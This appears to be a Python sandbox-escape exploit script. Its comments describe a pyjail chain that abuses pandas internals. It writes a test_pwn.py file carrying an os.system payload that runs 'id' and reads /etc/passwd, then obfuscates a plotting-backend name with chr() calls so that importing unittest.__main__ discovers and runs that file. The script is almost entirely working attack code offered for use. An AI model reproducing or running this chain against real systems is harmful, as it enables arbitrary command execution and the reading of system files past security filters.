# source: pandas plotting backends are imported by name (pandas/plotting/_core.py _load_backend -> importlib.import_module); "python -m unittest" discovery (unittest/__main__.py runs main() on import, discovers test*.py in cwd); pyjail "import a module with side effects" tricks
# family: keyword-name provenance gap (a literal-key dict later given a computed key, spread through a def's own **kwargs) -> plotting backend import of any module; chained with the CSVFormatter writer (003)
# goal: write ./test_pwn.py, import unittest.__main__ which imports it -> os.system('id')
import pandas as pd
from pandas.io.formats.csvs import CSVFormatter
from pandas.io.formats.format import DataFrameFormatter

code = pd.DataFrame({"c": ["import os;os.system('id;head -2 /etc/passwd')"]})
name = "test_pwn" + chr(46) + "".join(map(chr, [112, 121]))
CSVFormatter(DataFrameFormatter(code, header=False, index=False), name).save()


def draw(frame, **kwargs):
    return frame.plot(**kwargs)


opts = {"kind": "line"}
opts["back" + "end"] = "unittest." + chr(95) * 2 + "main" + chr(95) * 2
draw(pd.DataFrame({"a": [1, 2]}), **opts)
